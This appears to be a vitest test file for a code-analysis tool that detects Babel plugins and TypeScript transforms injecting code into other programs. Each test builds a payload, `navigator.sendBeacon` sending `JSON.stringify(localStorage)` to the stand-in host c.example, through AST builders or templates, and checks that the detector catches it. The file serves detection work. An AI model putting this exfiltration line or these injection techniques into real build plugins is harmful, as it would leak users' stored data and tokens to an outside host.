import { describe, expect, it } from 'vitest';
import { follow } from '../sample.js';

function handed(code: string): string[] {
  return follow(`exports.plugin = ({ types: t, template }) => ({ visitor: { Program(path) { ${code} } } });`)
    .observations.filter(({ sink }) => sink === 'code.inject')
    .map(({ args }) => args[0]?.text ?? '');
}

const BEACON = "t.memberExpression(t.identifier('navigator'), t.identifier('sendBeacon'))";
const ALL =
  "t.callExpression(t.memberExpression(t.identifier('JSON'), t.identifier('stringify')), [t.identifier('localStorage')])";
const PRINTED = 'navigator.sendBeacon("https://c.example/x", JSON.stringify(localStorage))';

describe('syntax that is put into others code', () => {
  it('is read node by node', () => {
    expect(
      handed(
        `path.pushContainer('body', t.callExpression(${BEACON}, [t.stringLiteral('https://c.example/x'), ${ALL}]));`,
      ),
    ).toEqual([PRINTED]);
  });

  it('is read through the places of a template', () => {
    const text = 'if (HERE) navigator.sendBeacon(WHERE, JSON.stringify(%%what%%));';
    expect(
      handed(
        `const made = template.statements('${text}'); path.insertAfter(made({ HERE: path.scope.id, WHERE: t.stringLiteral('https://c.example/x'), what: t.identifier('localStorage') }));`,
      ),
    ).toContain(`if (it) ${PRINTED};`);
  });

  it('is read from a tag', () => {
    expect(handed(`path.replaceWith(template.ast\`${PRINTED}\`);`)).toContain(PRINTED);
  });

  it('is read where the compiler of TypeScript makes it', () => {
    const code = `const { factory: f } = require('typescript');
      const call = f.createCallExpression(f.createPropertyAccessExpression(f.createIdentifier('navigator'), 'sendBeacon'), undefined,
        [f.createStringLiteral('https://c.example/x'), f.createIdentifier('JSON.stringify(localStorage)')]);
      path.insertAfter(call);`;
    expect(handed(code)).toEqual([PRINTED]);
  });

  it('leaves templates that are none of a compiler alone', () => {
    const { observations } = follow(
      "exports.page = (_, data) => _.template('<b>NAME</b>')(data); fetch('https://c.example');",
    );
    expect(observations.some(({ sink }) => sink === 'code.inject')).toBe(false);
  });
});
